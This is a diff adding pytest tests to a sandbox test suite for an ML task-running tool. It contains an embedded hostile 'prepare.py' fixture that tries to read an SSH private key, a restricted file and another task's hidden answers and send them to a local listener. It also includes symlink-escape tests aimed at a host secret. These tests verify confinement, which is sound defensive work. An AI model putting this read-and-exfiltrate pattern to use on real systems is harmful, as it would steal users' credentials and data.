@@ -7,18 +7,27 @@ code adding entries under a read-only folder.
 """
 from __future__ import annotations
 
+import json
 import os
 import resource
+import shutil
 import subprocess
 import sys
+import tempfile
 import time
 from pathlib import Path
 
 import pytest
 import test_hostile
 from test_hostile import TRAIN, HostileTask, Probe, act, run_case, script
+from test_sandbox import make_sandbox
+from test_scorer_isolation import Listener
 
+from mlab.core.errors import MlabError
+from mlab.core.plugins.registry import load_registry
+from mlab.core.run.harness import Harness
 from mlab.core.run.read_only_guard import SEPARATE_MOUNTS_MAX
+from mlab.core.run.taskdata import TaskHome
 
 MLAB = Path(sys.executable).with_name("mlab")
 SANDBOXES = ["local", "bwrap", "docker"]
@@ -194,3 +203,220 @@ def test_a_killed_grade_leaves_no_scratch_copy(tmp_path):
     while copy.parent.exists() and time.monotonic() < deadline:
         time.sleep(0.05)
     assert not copy.parent.exists()
+
+
+# ---- 5: a declarative pack's prepare runs confined --------------------------------------------------------------
+
+PACK_TASK = """\
+name: greedy
+description: "A pack whose prepare reaches for what is not its own."
+research_problem: Predict y.
+metric: accuracy
+answers: {{file: answers.csv, column: y}}
+prepare: prepare.py
+reference: solve.py
+resources: {{network_for_prepare: {network}}}
+"""
+PACK_TRAIN = "import shutil\nshutil.copyfile('test.csv', 'submission.csv')\n"
+PACK_SOLVE = "open('submission.csv', 'w').write('id,y\\n1,1\\n2,0\\n')\n"
+GREEDY_PREPARE = """\
+import json, os, socket
+from pathlib import Path
+found = {{"env": {{"MLAB_HOME": "MLAB_HOME" in os.environ, "user's HOME": os.environ.get("HOME") == {home!r}}},
+         "read": {{}}}}
+for path in {secrets!r}:
+    try:
+        found["read"][path] = open(path).read() if os.path.isfile(path) else sorted(os.listdir(path))
+    except OSError as exc:
+        found["read"][path] = "refused: " + type(exc).__name__
+try:
+    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
+        s.sendall(json.dumps(found).encode())
+    found["net"] = "sent"
+except OSError as exc:
+    found["net"] = "refused: " + type(exc).__name__
+try:
+    open(os.path.join(os.environ["MLAB_TASK_DIR"], "planted.txt"), "w").write("x")
+    found["pack"] = "written"
+except OSError as exc:
+    found["pack"] = "refused: " + type(exc).__name__
+public, hidden = Path(os.environ["MLAB_PUBLIC_DIR"]), Path(os.environ["MLAB_HIDDEN_DIR"])
+(public / "train.py").write_text(open(os.path.join(os.environ["MLAB_TASK_DIR"], "train.py")).read())
+(public / "test.csv").write_text("id,y\\n1,0\\n2,0\\n")
+(hidden / "answers.csv").write_text("id,y\\n1,1\\n2,0\\n")
+(public / "found.json").write_text(json.dumps(found))
+print("prepared")
+"""
+
+
+@pytest.fixture
+def listener():
+    server = Listener()
+    yield server
+    server.close()
+
+
+@pytest.fixture
+def outside_tmp():
+    """Folders outside /tmp: every sandbox's private /tmp would hide what is there anyway."""
+    folder = Path(tempfile.mkdtemp(prefix="mlab-hostile-inputs-", dir="/var/tmp"))
+    yield folder
+    shutil.rmtree(folder, ignore_errors=True)
+
+
+def greedy_pack(outside: Path, port: int, network: bool = False) -> tuple[Path, dict[str, str]]:
+    """A pack whose prepare tries to read a 0600 file, another task's hidden answers in MLAB_HOME and the
+    user's home folder, and to post them to a 127.0.0.1 listener."""
+    user_home = outside / "user"
+    (user_home / ".ssh").mkdir(parents=True)
+    (user_home / ".ssh" / "id_ed25519").write_text("USER-KEY\n")
+    private = outside / "private.txt"
+    private.write_text("PRIVATE-0600\n")
+    private.chmod(0o600)
+    mlab_home = outside / "mlab-home"
+    other = mlab_home / "tasks" / "lite__other" / "hidden"
+    other.mkdir(parents=True)
+    (other / "answers.csv").write_text("OTHER-ANSWERS\n")
+    secrets = {"private": str(private), "answers": str(other / "answers.csv"), "home": str(user_home / ".ssh"),
+               "tasks": str(mlab_home / "tasks")}
+    folder = outside / "pack" / "greedy"
+    folder.mkdir(parents=True)
+    (folder / "task.yaml").write_text(PACK_TASK.format(network=str(network).lower()))
+    (folder / "prepare.py").write_text(GREEDY_PREPARE.format(secrets=list(secrets.values()), port=port,
+                                                            home=str(user_home)))
+    (folder / "train.py").write_text(PACK_TRAIN)
+    (folder / "solve.py").write_text(PACK_SOLVE)
+    return folder, {"MLAB_HOME": str(mlab_home), "HOME": str(user_home)}
+
+
+def found_in(home: Path) -> dict:
+    return json.loads((home / "tasks" / "folder__greedy" / "public" / "found.json").read_text())
+
+
+def assert_nothing_left(found: dict, listener: Listener, env: dict[str, str]) -> None:
+    assert listener.received == [], listener.received
+    assert found["net"].startswith("refused"), found
+    assert all(str(what).startswith("refused") for what in found["read"].values()), found
+    assert found["env"] == {"MLAB_HOME": False, "user's HOME": False}, found
+    assert found["pack"].startswith("refused"), found
+
+
+@parametrize
+def test_check_task_runs_a_packs_prepare_confined(sandbox, outside_tmp, listener):
+    make_sandbox(sandbox)
+    folder, env = greedy_pack(outside_tmp, listener.port)
+    home = outside_tmp / "check-home"
+    result = subprocess.run([str(MLAB), "check-task", str(folder), "--sandbox", sandbox, "--home", str(home)],
+                            capture_output=True, text=True, timeout=600, env={**os.environ, **env})
+    assert "Traceback" not in result.stderr, result.stderr
+    assert_nothing_left(found_in(home), listener, env)
+    assert not (folder / "planted.txt").exists()
+    assert result.returncode == 0, result.stdout + result.stderr  # the pack's own files were enough to pass
+
+
+@parametrize
+def test_prepare_and_a_runs_automatic_prepare_run_a_pack_confined(sandbox, outside_tmp, listener, monkeypatch):
+    from mlab.core.declarative.pack import FOLDER_PACK
+    from mlab.core.declarative.task import DeclarativeTask
+
+    make_sandbox(sandbox)
+    folder, env = greedy_pack(outside_tmp, listener.port)
+    for key, value in env.items():
+        monkeypatch.setenv(key, value)
+    task = DeclarativeTask.from_folder(folder, FOLDER_PACK)
+    registry = load_registry()
+    harness = Harness(registry, TaskHome(outside_tmp / "run-home"), sandbox=sandbox)
+    harness.ensure_prepared(task)  # what `mlab run` does before its first step
+    assert_nothing_left(found_in(harness.home.root), listener, env)
+    # `mlab prepare` with the default sandbox (auto), and a harness whose sandbox does not confine
+    for choice, home in (("auto", "prepare-home"), ("unconfined", "unconfined-home")):
+        harness = Harness(registry, TaskHome(outside_tmp / home), sandbox=choice)
+        harness.prepare(task)
+        assert_nothing_left(found_in(harness.home.root), listener, env)
+
+
+def test_a_pack_that_declares_the_network_reaches_it_and_still_nothing_else(outside_tmp, listener, monkeypatch):
+    from mlab.core.declarative.pack import FOLDER_PACK
+    from mlab.core.declarative.task import DeclarativeTask
+
+    folder, env = greedy_pack(outside_tmp, listener.port, network=True)
+    for key, value in env.items():
+        monkeypatch.setenv(key, value)
+    harness = Harness(load_registry(), TaskHome(outside_tmp / "home"), sandbox="bwrap")
+    make_sandbox("bwrap")
+    harness.prepare(DeclarativeTask.from_folder(folder, FOLDER_PACK))
+    found = found_in(harness.home.root)
+    assert found["net"] == "sent" and len(listener.received) == 1, found
+    sent = json.loads(listener.received[0])
+    assert all(str(what).startswith("refused") for what in sent["read"].values()), sent
+
+
+# ---- 6: a pack's files are taken without following links out of it ---------------------------------------------
+
+LINKED_TASK = """\
+name: linked
+description: "A pack whose files are links."
+research_problem: Predict y.
+metric: accuracy
+answers: {file: answers.csv, column: y}
+files:
+  public: {train.py: train.py, data: data}
+  hidden: {answers.csv: answers.csv}
+"""
+
+
+def linked_pack(root: Path) -> Path:
+    folder = root / "linked"
+    (folder / "data").mkdir(parents=True)
+    (folder / "task.yaml").write_text(LINKED_TASK)
+    (folder / "train.py").write_text("print('hi')\n")
+    (folder / "answers.csv").write_text("id,y\n1,1\n")
+    (folder / "data" / "train.csv").write_text("id,x\n1,2\n")
+    os.symlink("train.csv", folder / "data" / "same.csv")  # a link inside the pack is its own file: fine
+    return folder
+
+
+@pytest.mark.parametrize("where", ["train.py", "data/notes.txt", "data"])
+def test_a_link_out_of_the_pack_is_refused_in_one_line(tmp_path, outside_tmp, where):
+    secret = outside_tmp / "secret.txt"
+    secret.write_text("HOST-SECRET\n")
+    secret.chmod(0o600)
+    folder = linked_pack(tmp_path)
+    target = folder / where
+    if target.is_dir():
+        shutil.rmtree(target)
+        os.symlink(outside_tmp, target)
+    else:
+        target.unlink(missing_ok=True)
+        os.symlink(secret, target)
+    home = tmp_path / "home"
+    result = subprocess.run([str(MLAB), "check-task", str(folder), "--home", str(home)], capture_output=True,
+                            text=True, timeout=300)
+    assert result.returncode == 2, result.stdout + result.stderr
+    lines = result.stderr.strip().splitlines()
+    field = "files.public.data" if where.startswith("data") else "files.public.train.py"
+    assert len(lines) == 1 and f"field '{field}'" in lines[0] and "a link out of the task folder" in lines[0], lines
+    assert "Traceback" not in result.stderr
+    assert not home.exists() or "HOST-SECRET" not in subprocess.run(
+        ["grep", "-r", "HOST-SECRET", str(home)], capture_output=True, text=True).stdout
+
+
+def test_a_link_made_after_the_pack_was_read_is_refused_at_prepare(tmp_path, outside_tmp):
+    """The check at load time is not the only one: the copy itself never follows a link out."""
+    from mlab.core.declarative.pack import FOLDER_PACK
+    from mlab.core.declarative.task import DeclarativeTask
+
+    secret = outside_tmp / "secret.txt"
+    secret.write_text("HOST-SECRET\n")
+    folder = linked_pack(tmp_path)
+    task = DeclarativeTask.from_folder(folder, FOLDER_PACK)
+    os.symlink(secret, folder / "data" / "late.txt")
+    home = TaskHome(tmp_path / "home")
+    with pytest.raises(MlabError, match="is a link out of the task folder"):
+        home.prepare(task)
+    assert not home.is_prepared(task) and not any((tmp_path / "home" / "tasks").iterdir())
+    (folder / "data" / "late.txt").unlink()
+    home.prepare(task)
+    public = home.public_dir(task)
+    same = public / "data" / "same.csv"
+    assert same.read_text() == "id,x\n1,2\n" and not same.is_symlink()
